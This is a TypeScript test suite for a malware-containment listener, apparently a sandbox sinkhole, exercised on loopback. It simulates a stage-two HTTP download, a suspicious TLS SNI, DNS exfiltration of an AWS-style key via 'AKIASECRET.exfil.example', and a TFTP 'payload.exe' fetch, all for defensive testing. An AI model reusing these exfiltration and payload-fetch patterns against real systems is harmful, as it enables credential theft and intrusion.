import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { get } from 'node:http';
import { describe, it } from 'node:test';
import { connect as tlsConnect } from 'node:tls';
import { listenContainment } from '../../src/containment/index.ts';
import { dnsQuery, eventsOf, makeContainment } from './helpers.ts';

const LOOPBACK = '127.0.0.1';

describe('socket front (loopback only)', () => {
  it('answers a real HTTP request and records it with the peer as source', async () => {
    const containment = makeContainment();
    const front = await listenContainment(containment, { address: LOOPBACK, tcpPort: 0 });
    try {
      const port = front.tcpAddress!.port;
      const body = await new Promise<string>((resolve, reject) => {
        get({ host: LOOPBACK, port, path: '/stage2.bin', headers: { 'User-Agent': 'curl/7.29.0' } }, (response) => {
          assert.equal(response.statusCode, 200);
          let text = '';
          response.setEncoding('latin1');
          response.on('data', (chunk: string) => (text += chunk));
          response.on('end', () => resolve(text));
        }).on('error', reject);
      });
      assert.match(body, /It works!/);
      const [request] = eventsOf(containment.events, 'http_request');
      assert.equal(request!.facts.url, '/stage2.bin');
      assert.equal(request!.facts.userAgent, 'curl/7.29.0');
      assert.deepEqual(request!.destination, { address: LOOPBACK, port });
      assert.equal(request!.source!.address, LOOPBACK);
    } finally {
      await front.close();
    }
    assert.ok(front.closed);
  });

  it('records the SNI of a real TLS client and refuses the handshake', async () => {
    const containment = makeContainment();
    // the driver knows where the dummy meant to go; the listener stands for it
    const front = await listenContainment(containment, { address: LOOPBACK, tcpPort: 0, destinationOf: () => ({ address: '172.17.0.1', port: 443 }) });
    try {
      const socket = tlsConnect({ host: LOOPBACK, port: front.tcpAddress!.port, servername: 'ldaps.suspect.network', rejectUnauthorized: false });
      const [error] = (await once(socket, 'error').catch((caught: unknown) => [caught])) as [Error];
      assert.match(String(error), /handshake failure|alert/i);
      const [hello] = eventsOf(containment.events, 'tls_client_hello');
      assert.equal(hello!.facts.sni, 'ldaps.suspect.network');
      assert.deepEqual(hello!.destination, { address: '172.17.0.1', port: 443 });
    } finally {
      await front.close();
    }
  });

  it('answers a DNS query over UDP with the sinkhole address', async () => {
    const containment = makeContainment({ sinkhole: { ipv4: '10.13.37.9' } });
    const front = await listenContainment(containment, { address: LOOPBACK, udpPort: 0 });
    const client = createSocket('udp4');
    try {
      client.send(dnsQuery('AKIASECRET.exfil.example', 1, 0xbeef), front.udpAddress!.port, LOOPBACK);
      const [reply] = (await once(client, 'message')) as [Buffer];
      assert.equal(reply.readUInt16BE(0), 0xbeef);
      assert.deepEqual([...reply.subarray(-4)], [10, 13, 37, 9]);
      assert.equal(eventsOf(containment.events, 'dns_query')[0]!.facts.qname, 'AKIASECRET.exfil.example');
    } finally {
      client.close();
      await front.close();
    }
  });

  it('serves a TFTP RRQ from a transfer port, as a real server does', async () => {
    const file = Buffer.alloc(600, 0x41);
    const containment = makeContainment({ download: { body: file } });
    const front = await listenContainment(containment, { address: LOOPBACK, udpPort: 0, transferIdleMs: 2_000 });
    const client = createSocket('udp4');
    try {
      client.send(Buffer.from('\x00\x01payload.exe\x00octet\x00', 'latin1'), front.udpAddress!.port, LOOPBACK);
      const [first, from] = (await once(client, 'message')) as [Buffer, { port: number; address: string }];
      assert.notEqual(from.port, front.udpAddress!.port);
      assert.deepEqual([...first.subarray(0, 4)], [0, 3, 0, 1]);
      client.send(Buffer.from([0, 4, 0, 1]), from.port, from.address);
      const [second, secondFrom] = (await once(client, 'message')) as [Buffer, { port: number }];
      assert.equal(secondFrom.port, from.port);
      assert.equal(first.length - 4 + second.length - 4, 600);
      client.send(Buffer.from([0, 4, 0, 2]), from.port, from.address);
      const [request] = eventsOf(containment.events, 'tftp_request');
      assert.equal(request!.facts.fileName, 'payload.exe');
    } finally {
      client.close();
      await front.close();
    }
  });

  it('resets connections over the connection cap', async () => {
    const containment = makeContainment({ limits: { maxConnections: 1 } });
    const front = await listenContainment(containment, { address: LOOPBACK, tcpPort: 0 });
    try {
      const { connect } = await import('node:net');
      const first = connect(front.tcpAddress!.port, LOOPBACK);
      await once(first, 'connect');
      const second = connect(front.tcpAddress!.port, LOOPBACK);
      // once() would reject on the reset itself: wait for the close instead
      await new Promise((resolve) => second.on('error', () => {}).on('close', resolve));
      first.destroy();
      assert.equal(containment.counters.get('containment.connections_refused_cap'), 1);
    } finally {
      await front.close();
    }
  });
});
